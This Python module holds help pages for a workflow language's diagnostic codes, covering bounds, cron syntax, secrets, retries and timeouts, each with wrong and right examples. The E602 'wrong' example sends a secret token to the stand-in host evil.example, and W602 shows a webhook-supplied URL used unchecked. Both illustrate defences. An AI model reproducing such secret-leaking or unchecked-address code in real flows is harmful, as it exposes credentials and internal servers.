"""Pages about bounds, safety and tidiness: codes 5xx, 6xx, 9xx, and the note about what is not shown."""

from __future__ import annotations

from typing import Final

PAGES: Final = r"""
# E501 an expression can cost too much
An expression may take 10,000 steps, and the compiler can see that this one needs more: loops inside
of loops multiply. The bound is what keeps one flow from holding up all others. Visit fewer
elements, or compute it in an action. A value may have 4 MiB as JSON; a part that `cel.bind` names
is written out as often as it is read, and where that is certain to be too much, it is said here.
--- wrong
flow show {
  let sums = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11].map(a,
    [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11].map(b,
      [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11].map(c,
        [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11].map(d, a + b + c + d))))
  log(message: "${sums.size()}")
}
--- right
flow show {
  let sums = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11].map(a,
    [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11].map(b, a + b))
  log(message: "${sums.size()}")
}

# E502 flows call each other in a cycle
A flow that called itself, directly or through others, might never end, so there is no such call,
and no `start`; and at most eight flows are inside each other. To go on later, `emit` an event that
starts a run of its own. To do something many times, use `for`.
--- wrong
flow remind(to: Email) {
  email(template: "reminder", to: to)
  wait 1w
  remind(to: to)
}
--- right
flow remind(to: Email) {
  email(template: "reminder", to: to)
  wait 1w
  second = email(template: "reminder", to: to)
}

# E503 a flow is too large
A flow may have 1,000 steps and conditions and 5,000 edges; a host may set other limits. Two wide
`parallel` blocks in a row have as many edges as the product of their widths: put a single step
between them. Otherwise split the flow: one emits an event that starts the next. What a run can come
to at most is known too, and `dagflow check --bounds` prints it: where a host allows less, the loop
or call that adds most is named, with the `max` that would do.

# E504 there is no limit
A `wait event` says with `within` how long it waits, because an event may never come, and a run that
waits for nothing would be kept for nothing. Say how long, and with `else` what happens then; without
an `else` the flow goes on, and what the event carries may be absent. A `for` says with `max` how
many items there may be; a longer list fails the loop before it begins.
--- wrong
event "ops/incident.acked" { id: string, by: string }

flow incident(id: string) {
  ack = wait event "ops/incident.acked" as a when a.id == id
  log(message: ack.?by ?? "nobody")
}
--- right
event "ops/incident.acked" { id: string, by: string }

flow incident(id: string) {
  ack = wait event "ops/incident.acked" as a when a.id == id within 1d
  log(message: ack.?by ?? "nobody")
}

# E505 a schedule means nothing
A cron schedule has five fields: minute, hour, day of the month, month, day of the week. Each is
`*`, a number, a range `9-17`, a list `1,15`, or every so many of a range, `*/10` or `9-17/2`;
months and days of the week have names too, `JAN` and `MON`. There are no seconds, and a schedule
has to be due at some time. The time zone is one by its name, `Europe/Paris`; without, it is `UTC`.
--- wrong
flow digest {
  on cron "0 25 * * MON"
  slack(channel: "C1", text: "a new week")
}
--- right
flow digest {
  on cron "0 9 * * MON" in "Europe/Paris"
  slack(channel: "C1", text: "a new week")
}

# E601 a secret would leave the system
A flow only holds the handle of a secret, `secrets.NAME`, and may only give it to a parameter of the
type `Secret<string>`. It cannot be put into a text, compared or logged, so it stands in no history
and in no message. Give it to an action that takes one.
--- wrong
flow call(url: Url) {
  log(message: "token ${secrets.token}")
}
--- right
flow call(url: Url) {
  http.request(url: url, token: secrets.token)
}

# E602 a secret may not go there
The host binds a secret to servers and to actions. It is sent by https only, unless the host says
otherwise, and to no other server. What an address made of values leads to is looked at in the call,
which then fails with the code `secret_refused`. Whoever runs this can bind the secret to more.
--- wrong
flow call {
  http.request(url: "https://evil.example/", token: secrets.crm_token)
}
--- right
flow call {
  http.request(url: "https://api.crm.example/", token: secrets.crm_token)
}

# E603 a flow may not emit this event
The host keeps some events for itself, so that a flow cannot say in its name that something has been
paid or approved. Emit one that flows may emit; whoever runs this can allow more of them.
--- wrong
event "pay/approved" { order: string }

flow approve(order: string) {
  emit "pay/approved" (order: order)
}
--- right
event "order/checked" { order: string }

flow approve(order: string) {
  emit "order/checked" (order: order)
}

# W701 a step is gone that runs know
`dagflow check --store PATH` compares a file with the runs in progress. A name is what keeps a step
the same, so a step that was renamed looks like a new one, and the old one is gone. Where a new step
does what the old one did, the message names it: write `was old` behind it. Runs that are in progress
go on as they began either way.

# N101 more was found than is shown
After 200 findings the rest are only counted: nobody reads more at once, and many of them tend to
have one cause. Correct the first ones and check again.

# N501 a setting waits for a service
`once`, `debounce`, `rate`, `concurrency`, `priority`, `cancel on`, schedules and webhooks say how runs
begin and when they are cancelled. They are checked and kept with the flow, for a service that starts
its runs. There is none in the library: an interpreter starts a run when the program says so, and
takes no notice of them. Let the program apply them (`flow.policies`, `flow.triggers`), or leave them
out. A `test` honours `cancel on`. `dagflow check --strict` counts no notes.
--- wrong
flow greet(id: string) {
  concurrency 1 by id
  log(message: "hello ${id}")
}
--- right
flow greet(id: string) {
  on manual
  log(message: "hello ${id}")
}

# N601 an imported edge prunes here
The engine of workflow-kit skipped an action whose edge was not followed, but still ran what stands
behind it. In a flow a condition holds for all that is behind it: what is pruned prunes on. The note
names each edge where that makes a difference. There is nothing to do if it is what you want; else
let an edge lead around the condition.
--- wrong
{
  "actions": [
    {"id": "c", "kind": "builtin:if", "inputs": {"condition": {">": ["!ref($.event.n)", 1]}}},
    {"id": "a", "kind": "log", "inputs": {"message": "many"}},
    {"id": "b", "kind": "log", "inputs": {"message": "sent"}}
  ],
  "edges": [
    {"from": "$source", "to": "c"},
    {"from": "c", "to": "a", "conditional": {"type": "if", "ref": "!ref($.output.result)"}},
    {"from": "a", "to": "b"}
  ]
}
--- right
{
  "actions": [
    {"id": "c", "kind": "builtin:if", "inputs": {"condition": {">": ["!ref($.event.n)", 1]}}},
    {"id": "a", "kind": "log", "inputs": {"message": "many"}},
    {"id": "b", "kind": "log", "inputs": {"message": "sent"}}
  ],
  "edges": [
    {"from": "$source", "to": "c"},
    {"from": "c", "to": "a", "conditional": {"type": "if", "ref": "!ref($.output.result)"}},
    {"from": "c", "to": "b"}
  ]
}

# N602 an imported action waits here
The engine of workflow-kit ran an action as soon as the first of its edges led to it, so it could run
before others it was to wait for. A flow waits until all of them are settled, and runs the action if
one of the edges is followed. The note names each action where that makes a difference. There is
nothing to do if it is what you want; else remove the edges it is not to wait for.
--- wrong
{
  "actions": [
    {"id": "a", "kind": "log", "inputs": {"message": "one"}},
    {"id": "b", "kind": "log", "inputs": {"message": "two"}},
    {"id": "c", "kind": "log", "inputs": {"message": "both"}}
  ],
  "edges": [
    {"from": "$source", "to": "a"},
    {"from": "$source", "to": "b"},
    {"from": "a", "to": "c"},
    {"from": "b", "to": "c"}
  ]
}
--- right
{
  "actions": [
    {"id": "a", "kind": "log", "inputs": {"message": "one"}},
    {"id": "b", "kind": "log", "inputs": {"message": "two"}},
    {"id": "c", "kind": "log", "inputs": {"message": "both"}}
  ],
  "edges": [
    {"from": "$source", "to": "a"},
    {"from": "$source", "to": "b"},
    {"from": "a", "to": "c"}
  ]
}

# W501 a retry may repeat an effect
A retried step may have done its work already when its answer was lost. For an action that is
`effectful` and takes no effect key, trying again may do it twice: two messages, two charges. Let
the action take the key, declare it `idempotent` if doing it twice does no harm, or write `on unknown
fail` at the step: only failures that the action reports itself are retried then, and an attempt that
a crash or a time limit cut short is not made again. `retry 0` opts a step out of the flow's `retry`.
--- wrong
action pay.charge(order: string) effectful

flow charge(order: string) {
  pay.charge(order: order)
    retry 5 from 1s to 1m
}
--- right
action pay.charge(order: string) idempotent

flow charge(order: string) {
  pay.charge(order: order)
    retry 5 from 1s to 1m
}

# W502 the run is over before that
A run lives as long as the `timeout` among the settings of its flow says, 30 days if nothing is said,
waits included; then it ends, as `failed`, with the code `run_timeout`. Here a wait or a limit is so
long, or begins so late, that the run is over first: what comes after it, and its `else`, never run.
Let the run live longer, or write a shorter duration. Only what is certain is counted: the waits before
it, and for the `else` of a `wait event` its `within`.
--- wrong
flow remind(to: Email) {
  wait 30d
  email(template: "reminder", to: to)
}
--- right
flow remind(to: Email) {
  timeout 31d
  wait 30d
  email(template: "reminder", to: to)
}

# W602 outside text becomes an address
A webhook brings what somebody else wrote. Where a text of it becomes an address, that somebody
chooses whom a mail goes to, or which machine a request is sent to. Compare it first, with a list of
addresses, or with what it has to begin or end with; or give it a type that is a set of texts.
--- wrong
flow subscribe {
  on webhook "subscriptions" as body: {callback: Url}
  http.request(url: body.callback)
}
--- right
flow subscribe {
  on webhook "subscriptions" as body: {callback: Url}
  filter body.callback.startsWith("https://hooks.example.com/")
  http.request(url: body.callback)
}

# W901 something is never used
A `let` is computed and nothing reads it. Often its name is misspelt somewhere, or what used it was
removed. Use it, or remove it.
--- wrong
flow greet {
  let discount = 0.1
  log(message: "hello")
}
--- right
flow greet {
  let discount = 0.1
  log(message: "a discount of ${discount}")
}
"""
